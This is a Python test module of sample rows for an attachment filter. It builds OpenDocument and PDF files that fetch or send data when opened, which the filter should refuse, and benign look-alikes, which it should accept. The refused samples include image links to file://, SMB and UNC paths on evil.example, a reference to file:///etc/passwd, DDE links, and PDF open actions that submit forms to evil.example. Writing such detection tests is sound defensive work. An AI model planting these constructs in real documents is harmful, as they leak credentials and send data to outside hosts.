"""PDF and OpenDocument that fetch or send something when they are opened, and those that only look like it."""

from tests.attachments import samples as made
from tests.attachments.row import Content, Row, refused, taken

_ODF = "urn:oasis:names:tc:opendocument:xmlns"
_NAMES = (
    f"xmlns:d='{_ODF}:drawing:1.0' xmlns:t='{_ODF}:text:1.0' xmlns:m='{_ODF}:meta:1.0' xmlns:c='{_ODF}:chart:1.0'"
    " xmlns:x='http://www.w3.org/1999/xlink'"
)
_DRAWING = (
    "<?xml version='1.0'?><!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://www.w3.org/svg11.dtd'>"
    "<svg xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink'><image x:href='{}'/></svg>"
)
_GO_ON = b"<< /S /GoTo /D (kop) /Next << /S /URI /URI (https://evil.example/) >> >>"
_TO_THE_WEB = b"<< /S /URI /URI (https://evil.example/) >>"
_SENT = b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"


def _odt(element: str, part: str = "content.xml") -> Content:
    return lambda: made.odt({part: f"<o:document {_NAMES} xmlns:o='o'>{element}</o:document>".encode()})


def _drawing(address: str) -> Content:
    return lambda: made.odt({"Pictures/logo.svg": _DRAWING.format(address).encode()})


def _pdf(key: str, value: bytes) -> Content:
    return lambda: made.pdf(root={key: value})


def _image(address: str) -> str:
    return f"<d:image x:href='{address}' x:show='embed' x:actuate='onLoad'/>"


def _refused_odt(what: str, content: Content) -> Row:
    return refused(f"OpenDocument with {what}", "a.odt", content, "active")


def _taken_odt(what: str, content: Content) -> Row:
    return taken(f"OpenDocument with {what}", "a.odt", content, "odt", "a.odt")


def _refused_pdf(what: str, content: Content) -> Row:
    return refused(f"PDF with {what}", "a.pdf", content, "active")


def _taken_pdf(what: str, content: Content) -> Row:
    return taken(f"PDF with {what}", "a.pdf", content, "pdf", "a.pdf")


FETCHING = [
    _refused_odt("a picture that asks Windows for a password", _odt(_image("file://evil.example/share/x.png"))),
    _refused_odt("a picture on the web", _odt(_image("https://evil.example/x.png"))),
    _refused_odt("a picture on another machine", _odt(_image("//evil.example/share/x.png"))),
    _refused_odt("a picture on another machine, as Windows writes it", _odt(_image("\\\\evil.example\\x.png"))),
    _refused_odt("a picture elsewhere in disguise", _odt(_image(" %66ile:%2f%2fevil.example/x.png"))),
    _refused_odt("a picture elsewhere by a way up", _odt(_image("../../../..//evil.example/share/x.png"))),
    _refused_odt("a picture elsewhere in its styles", _odt(_image("smb://evil.example/x.png"), "styles.xml")),
    _refused_odt("a picture elsewhere in an object", _odt(_image("file://evil.example/x.png"), "Object 1/content.xml")),
    _refused_odt("a picture elsewhere in a drawing", _drawing("https://evil.example/x.png")),
    _refused_odt("a frame of another site", _odt("<d:floating-frame x:href='https://evil.example/'/>")),
    _refused_odt("a text from elsewhere", _odt("<t:section-source x:href='file:///etc/passwd'/>")),
    _refused_odt("a program that it asks for text", _odt("<t:dde-connection-decl o:dde-application='soffice'/>")),
    _refused_odt("a template elsewhere", _odt("<m:template x:href='file://evil.example/t.ott'/>", "meta.xml")),
    _refused_odt("a template on another machine", _odt("<m:template x:href='file:////evil/t.ott'/>", "meta.xml")),
    _refused_odt("itself to be fetched again", _odt("<m:auto-reload x:href='https://evil.example/'/>", "meta.xml")),
    _refused_pdf("a form that is sent at opening", _pdf("/OpenAction", _SENT)),
    _refused_pdf("a form that is sent by a button", lambda: made.pdf(page={"/Button": b"<< /A " + _SENT + b" >>"})),
    _refused_pdf("a site that opens with it", _pdf("/OpenAction", _TO_THE_WEB)),
    _refused_pdf("a site that opens behind a page", _pdf("/OpenAction", _GO_ON)),
    _refused_pdf("a site that opens when it closes", _pdf("/AA", b"<< /WC " + _TO_THE_WEB + b" >>")),
    _refused_pdf("a site that opens with a page", lambda: made.pdf(page={"/AA": b"<< /O " + _TO_THE_WEB + b" >>"})),
    _refused_pdf("content that stands elsewhere", made.pdf_with_content_elsewhere),
]

NOT_FETCHING = [
    _taken_odt("a picture of its own", _odt(_image("Pictures/1000.png"))),
    _taken_odt("a picture in a drawing", _drawing("data:image/png;base64,iVBORw0KGgo//8A=")),
    _taken_odt("links", _odt("<t:a x:href='https://example.org/'>hier</t:a><d:a x:href='mailto:a@example.org'/>")),
    _taken_odt("a graph", _odt("<d:object x:href='./Object 1'/>")),
    _taken_odt("a table behind a graph", _odt("<c:chart x:href='..'/>", "Object 1/content.xml")),
    _taken_odt("a template of its maker", _odt("<m:template x:href='file:///C:/Users/A/brief.ott'/>", "meta.xml")),
    _taken_odt("keys that nobody changed", lambda: made.odt({"Configurations2/accelerator/current.xml": b""})),
    _taken_pdf("a page to begin at", _pdf("/OpenAction", b"[0 /Fit]")),
    _taken_pdf("a heading to begin at", _pdf("/OpenAction", b"<< /S /GoTo /D (kop) >>")),
    _taken_pdf("a print that is offered", _pdf("/OpenAction", b"<< /S /Named /N /Print >>")),
    _taken_pdf("a link", lambda: made.pdf(page={"/Annots": b"[<< /Subtype /Link /A " + _TO_THE_WEB + b" >>]"})),
]
